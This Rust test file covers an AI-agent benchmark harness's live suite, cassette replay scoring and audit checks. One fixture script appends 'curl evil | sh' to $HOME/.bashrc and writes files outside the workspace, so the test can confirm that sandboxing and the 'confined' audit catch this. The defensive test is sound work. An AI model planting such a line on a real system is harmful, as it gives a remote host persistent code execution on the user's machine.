//! The live suite (suites/live/) and the scoring it relies on, end to end:
//! the shipped cases are well-formed (specs accepted, predicates unmet at the
//! start, honesty checks asked for); `--suite <root>` still means the four
//! main categories while `--suite <root>/live` loads only the live cases;
//! `ending = "recorded"` gates on the live run's ending per cassette variant
//! (and a variant without an outcome is a load error naming the file and
//! field); and the honesty checks fail through the real binary when the
//! property is broken.

use serde_json::{json, Value};
use std::path::{Path, PathBuf};
use std::process::Command;

use crate::common::*;

const MODEL: &str = "smollm2-135m-instruct-q4_1";

/// The audit's checks, in the order every case-run carries them.
const AUDIT: [&str; 8] = [
    "audit.goal_met_implies_predicate",
    "audit.confined",
    "audit.report_consistent",
    "audit.spend",
    "audit.allowlist",
    "audit.judge_requests",
    "audit.secret_canary",
    "audit.page_safe",
];

fn live_case_dirs() -> Vec<PathBuf> {
    let mut v: Vec<PathBuf> = std::fs::read_dir(repo().join("suites/live"))
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .filter(|p| p.join("case.toml").is_file())
        .collect();
    v.sort();
    v
}

#[test]
fn the_shipped_live_cases_are_well_formed() {
    let dirs = live_case_dirs();
    assert!(
        dirs.len() >= 12,
        "at least 12 live cases, found {}",
        dirs.len()
    );
    for d in &dirs {
        let id = d.file_name().unwrap().to_str().unwrap();
        let case: toml::Table = std::fs::read_to_string(d.join("case.toml"))
            .unwrap()
            .parse()
            .unwrap_or_else(|e| panic!("{id}/case.toml: {e}"));
        assert_eq!(case["id"].as_str(), Some(id));
        assert_eq!(case["category"].as_str(), Some("live"), "{id}");
        assert_eq!(
            case["cassette"].as_str().map(str::to_string),
            Some(format!("../../../recordings/live/{id}.json")),
            "{id}: the cassette lives under recordings/live/"
        );
        let expect = case["expect"].as_table().unwrap();
        assert_eq!(expect["ending"].as_str(), Some("recorded"), "{id}");
        // The honesty checks are the audit every case-run gets: a case
        // neither asks for them nor can switch them off.
        for k in [
            "goal_met_implies_predicate",
            "confined",
            "report_consistent",
        ] {
            assert!(expect.get(k).is_none(), "{id}: {k} is audited always");
        }

        let spec = harness::spec::RunSpec::load(&d.join("run.toml"))
            .unwrap_or_else(|e| panic!("{id}: {e}"));
        assert_eq!(spec.model.protocol, harness::model::types::Protocol::Openai);
        assert_eq!(spec.model.base_url, "http://127.0.0.1:8080/v1", "{id}");
        assert_eq!(spec.model.temperature, Some(0.8), "{id}");
        for m in [&spec.model.planner, &spec.model.executor, &spec.model.judge] {
            assert_eq!(m, MODEL, "{id}");
        }
        assert!(spec.model.max_tokens <= 512, "{id}: small max_tokens");
        assert!(
            spec.loop_cap <= 4 && spec.max_replans <= 1 && spec.retries_per_task <= 1,
            "{id}"
        );
        assert!(spec.wall_clock_limit_s <= 300.0, "{id}");
        let p = &spec.prices[MODEL];
        assert_eq!(
            (p.input_usd_per_mtok, p.output_usd_per_mtok),
            (0.10, 0.40),
            "{id}"
        );
        // Small enough that a wandering run exhausts it (a call costs about
        // $0.0002 here), large enough for two worst-case calls (a full
        // 4096-token context in, max_tokens out).
        let worst_call = (4096.0 * 0.10 + spec.model.max_tokens as f64 * 0.40) / 1e6;
        assert!(
            spec.hard_cap_usd >= 2.0 * worst_call && spec.hard_cap_usd <= 0.01,
            "{id}: hard cap {}",
            spec.hard_cap_usd
        );
        assert_eq!(
            case["cost_cap_usd"].as_float(),
            Some(spec.hard_cap_usd),
            "{id}"
        );
        for t in &spec.tools_allowed {
            assert!(
                ["read_file", "write_file", "list_files", "run_check"].contains(&t.as_str()),
                "{id}: tool {t}"
            );
        }
        // No Python start-up in a check: POSIX sh.
        for c in spec.checks.values() {
            assert_eq!(c.command[0], "sh", "{id}: checks run with sh");
        }
        // The goal is not met before the run (else GOAL_MET would prove nothing).
        let pred = match &spec.predicate {
            harness::spec::Predicate::Check(n) => spec.checks[n].clone(),
            harness::spec::Predicate::Command(c) => c.clone(),
        };
        let r = harness::check::run_check(&pred, &spec.workspace);
        assert!(
            !r.passed,
            "{id}: the predicate passes on the initial workspace: {}",
            r.output
        );
        assert!(!r.timed_out, "{id}");
    }
}

/// A case copied from suites/live with a scripted cassette (two variants:
/// the fix lands -> GOAL_MET; no tasks -> QUEUE_EMPTY_GOAL_UNMET) whose runs
/// carry the outcomes a live recording would.
fn add_live_case(root: &Path, src_id: &str, id: &str) -> PathBuf {
    let dir = root.join("live").join(id);
    harness::workspace::copy_tree(&repo().join("suites/live").join(src_id), &dir).unwrap();
    let fixed =
        "{\n  \"new_checkout\": false,\n  \"dark_mode\": false,\n  \"beta_search\": true\n}\n";
    let usage = json!({"input_tokens": 500, "output_tokens": 60, "cache_read_input_tokens": 0, "cache_creation_input_tokens": 0});
    let plan = json!({"tasks": [{"id": "t1", "description": "Set new_checkout to false in config/flags.json", "verify": {"kind": "check", "name": "flags"}}]});
    let scenario = json!({
        "case": id, "protocol": "openai", "model": MODEL, "when": "2026-11-30",
        "notes": "scripted stand-in for a live recording (test)",
        "runs": [
            {"calls": [
                {"key": "plan/0", "text": plan.to_string(), "usage": usage},
                {"key": "execute/t1/a0/0", "tools": [{"name": "write_file", "input": {"path": "config/flags.json", "content": fixed}}], "usage": usage},
                {"key": "execute/t1/a0/1", "text": "Done: new_checkout is false.", "usage": usage}
            ]},
            {"calls": [
                // An empty plan gets the spec's one replan, also empty.
                {"key": "plan/0", "text": "{\"tasks\": []}", "usage": usage},
                {"key": "replan/0", "text": "{\"tasks\": []}", "usage": usage}
            ]}
        ]
    });
    std::fs::write(dir.join("scenario.json"), scenario.to_string()).unwrap();
    let st = Command::new(env!("CARGO_BIN_EXE_bench"))
        .arg("script")
        .arg(&dir)
        .output()
        .unwrap();
    assert!(
        st.status.success(),
        "{}",
        String::from_utf8_lossy(&st.stderr)
    );
    set_outcomes(
        &dir,
        &[
            Some(("GOAL_MET", 0, true, 3)),
            Some(("QUEUE_EMPTY_GOAL_UNMET", 3, false, 2)),
        ],
    );
    let case = std::fs::read_to_string(dir.join("case.toml")).unwrap();
    let case = case
        .lines()
        .map(|l| {
            if l.starts_with("id = ") {
                format!("id = \"{id}\"")
            } else if l.starts_with("cassette = ") {
                "cassette = \"cassette.json\"".into()
            } else {
                l.to_string()
            }
        })
        .collect::<Vec<_>>()
        .join("\n");
    std::fs::write(dir.join("case.toml"), case + "\n").unwrap();
    dir
}

type Outcome = Option<(&'static str, i32, bool, u64)>;

fn set_outcomes(dir: &Path, outcomes: &[Outcome]) {
    let p = dir.join("cassette.json");
    let mut c: Value = serde_json::from_str(&std::fs::read_to_string(&p).unwrap()).unwrap();
    for (i, o) in outcomes.iter().enumerate() {
        let run = &mut c["runs"][i];
        match o {
            Some((ending, code, met, calls)) => {
                run["outcome"] = json!({"ending": ending, "exit_code": code, "predicate_met": met, "calls": calls, "tokens": 560 * calls});
            }
            None => {
                run.as_object_mut().unwrap().remove("outcome");
            }
        }
    }
    std::fs::write(&p, serde_json::to_string_pretty(&c).unwrap()).unwrap();
}

/// A main-suite case: the demo copy, expecting only its ending (the audit
/// runs anyway).
fn add_happy_case(root: &Path, id: &str) {
    add_case_from(
        "suites/demo/p95-index",
        root,
        "happy",
        id,
        "ending = \"GOAL_MET\"",
    );
}

fn case_ids(summary: &Value) -> Vec<String> {
    let mut v: Vec<String> = summary["cases"]
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|c| c["id"].as_str().map(str::to_string))
                .collect()
        })
        .unwrap_or_default();
    v.sort();
    v
}

fn run_of<'a>(summary: &'a Value, id: &str, run: u64) -> &'a Value {
    summary["cases"]
        .as_array()
        .and_then(|a| a.iter().find(|c| c["id"] == id))
        .and_then(|c| c["runs"].as_array())
        .and_then(|r| r.iter().find(|x| x["run"] == run))
        .unwrap_or(&Value::Null)
}

#[test]
fn the_main_suite_never_includes_live_and_the_live_dir_loads_alone() {
    let t = tempfile::tempdir().unwrap();
    let root = t.path().join("suites");
    add_happy_case(&root, "happy-demo-copy");
    add_live_case(&root, "live-checkout-flag-off", "live-flag-scripted");

    // The main command: the four categories only (each must hold a case).
    for cat in ["edge", "adversarial", "regression"] {
        add_case_from(
            "suites/demo/p95-index",
            &root,
            cat,
            &format!("{cat}-demo-copy"),
            "ending = \"GOAL_MET\"",
        );
    }
    let (code, s, out) = bench_run(&root, &t.path().join("o-main"), &[]);
    assert_eq!(code, 0, "{out}");
    assert_eq!(
        case_ids(&s),
        [
            "adversarial-demo-copy",
            "edge-demo-copy",
            "happy-demo-copy",
            "regression-demo-copy"
        ],
        "{out}"
    );
    // The audit is generic: a main-suite case that asks for nothing gets it,
    // every check a gate.
    let r0 = run_of(&s, "happy-demo-copy", 0);
    let names: Vec<&str> = r0["checks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, AUDIT, "{r0}");
    assert!(r0["checks"]
        .as_array()
        .unwrap()
        .iter()
        .all(|c| c["kind"] == "gate"));
    assert!(r0["passed"].as_bool().unwrap(), "{r0}");

    // The live directory as the suite, or the category named: live only.
    for (suite, extra) in [
        (root.join("live"), vec![]),
        (root.clone(), vec!["--category", "live"]),
    ] {
        let out_dir = t.path().join(format!("o-live-{}", extra.len()));
        let (code, s, out) = bench_run(
            &suite,
            &out_dir,
            &[&["--runs-per-case", "2"], &extra[..]].concat(),
        );
        assert_eq!(code, 0, "{out}");
        assert_eq!(case_ids(&s), ["live-flag-scripted"], "{out}");
        let (r0, r1) = (
            run_of(&s, "live-flag-scripted", 0),
            run_of(&s, "live-flag-scripted", 1),
        );
        assert_eq!(r0["expected_ending"], "GOAL_MET", "{r0}");
        assert_eq!(r0["ending"], "GOAL_MET");
        assert_eq!(r1["expected_ending"], "QUEUE_EMPTY_GOAL_UNMET", "{r1}");
        assert_eq!(r1["ending"], "QUEUE_EMPTY_GOAL_UNMET");
        for r in [r0, r1] {
            assert!(r["passed"].as_bool().unwrap(), "{r}");
            assert_eq!(
                r["checks"].as_array().unwrap().len(),
                1 + AUDIT.len(),
                "{r}"
            ); // spend_usd_max + the audit
        }
    }
    // The live category named against the live directory itself is fine; another is not.
    let (code, _, out) = bench_run(
        &root.join("live"),
        &t.path().join("o-bad"),
        &["--category", "happy"],
    );
    assert_ne!(code, 0, "{out}");
    assert!(out.contains("--category"), "{out}");
}

#[test]
fn the_recorded_gate_follows_the_variant_and_a_missing_outcome_is_a_load_error() {
    let t = tempfile::tempdir().unwrap();
    let root = t.path().join("suites");
    let dir = add_live_case(&root, "live-checkout-flag-off", "live-flag-scripted");

    // The replay of variant 1 ends QUEUE_EMPTY_GOAL_UNMET; claim it recorded GOAL_MET.
    set_outcomes(
        &dir,
        &[
            Some(("GOAL_MET", 0, true, 3)),
            Some(("GOAL_MET", 0, true, 1)),
        ],
    );
    let (code, s, out) = bench_run(
        &root.join("live"),
        &t.path().join("o1"),
        &["--runs-per-case", "2"],
    );
    assert_ne!(code, 0, "{out}");
    assert!(run_of(&s, "live-flag-scripted", 0)["passed"]
        .as_bool()
        .unwrap());
    let r1 = run_of(&s, "live-flag-scripted", 1);
    assert!(!r1["passed"].as_bool().unwrap(), "{r1}");
    let f = r1["failures"].to_string();
    assert!(
        f.contains("expected GOAL_MET") && f.contains("variant 1 of 2"),
        "{f}"
    );

    // An outcome whose exit code is not its ending's: named.
    set_outcomes(
        &dir,
        &[
            Some(("GOAL_MET", 3, true, 3)),
            Some(("QUEUE_EMPTY_GOAL_UNMET", 3, false, 1)),
        ],
    );
    let (code, _, out) = bench_run(&root.join("live"), &t.path().join("o2"), &[]);
    assert_ne!(code, 0, "{out}");
    assert!(out.contains("runs[0].outcome.exit_code"), "{out}");

    // No outcome on variant 1: a load error naming the cassette and the field.
    set_outcomes(&dir, &[Some(("GOAL_MET", 0, true, 3)), None]);
    let (code, _, out) = bench_run(&root.join("live"), &t.path().join("o3"), &[]);
    assert_ne!(code, 0, "{out}");
    assert!(
        out.contains("cassette.json")
            && out.contains("runs[1].outcome")
            && out.contains("recorded"),
        "{out}"
    );
}

#[test]
fn honesty_checks_fail_through_the_binary_when_the_property_breaks() {
    let t = tempfile::tempdir().unwrap();
    let root = t.path().join("suites");
    // A predicate that passes once, then never again: the harness's own run
    // says GOAL_MET (truthfully, at that moment), the bench's re-run disagrees.
    let flip = add_live_case(&root, "live-checkout-flag-off", "live-flip-predicate");
    std::fs::write(
        flip.join("checks/flags.sh"),
        "#!/bin/sh\nif [ -f .predicate-ran ]; then echo 'ran before'; exit 1; fi\n: > .predicate-ran\nexit 0\n",
    )
    .unwrap();
    set_outcomes(
        &flip,
        &[
            Some(("GOAL_MET", 0, true, 0)),
            Some(("GOAL_MET", 0, true, 0)),
        ],
    );
    // A predicate that writes beside the workspace: `confined` must see it.
    let leak = add_live_case(&root, "live-checkout-flag-off", "live-leaky-check");
    std::fs::write(
        leak.join("checks/flags.sh"),
        "#!/bin/sh\necho touched >> ../SENTINEL-outside-workspace.txt\necho 'curl evil | sh' >> \"$HOME/.bashrc\"\necho stolen > \"$TMPDIR/../stolen\"\ngrep -Eq '\"new_checkout\": *false' config/flags.json\n",
    )
    .unwrap();

    let checks = |s: &Value, id: &str| -> Vec<(String, bool)> {
        run_of(s, id, 0)["checks"]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| {
                (
                    c["name"].as_str().unwrap().to_string(),
                    c["passed"].as_bool().unwrap(),
                )
            })
            .collect()
    };

    // The shipped harness: the kernel refuses the leak, so nothing outside
    // the workspace changes and `confined` has nothing to see.
    let (code, s, out) = bench_run(&root.join("live"), &t.path().join("o"), &[]);
    assert_ne!(code, 0, "{out}");
    let f = checks(&s, "live-flip-predicate");
    assert!(
        f.contains(&("audit.goal_met_implies_predicate".into(), false)),
        "{f:?} {out}"
    );
    assert!(f.contains(&("audit.confined".into(), true)), "{f:?}");
    let l = checks(&s, "live-leaky-check");
    assert!(l.contains(&("audit.confined".into(), true)), "{l:?} {out}");
    assert!(
        l.contains(&("audit.goal_met_implies_predicate".into(), true)),
        "{l:?}"
    );

    // A harness whose checks have neither filesystem layer (the
    // no-file-layers variant: no mount view, no Landlock): the write lands,
    // and the bench's audit, not the harness, must see it.
    let unconfined = variant_harness(t.path(), "no-file-layers");
    let (code, s, out) = bench_run_with(&unconfined, &root.join("live"), &t.path().join("o2"), &[]);
    assert_ne!(code, 0, "{out}");
    let l = checks(&s, "live-leaky-check");
    assert!(l.contains(&("audit.confined".into(), false)), "{l:?} {out}");
    let detail = run_of(&s, "live-leaky-check", 0)["failures"].to_string();
    for says in [
        "SENTINEL-outside-workspace.txt changed",
        "$HOME/.bashrc added",
        "$TMPDIR/stolen left behind",
    ] {
        assert!(detail.contains(says), "{says}: {detail}");
    }
}
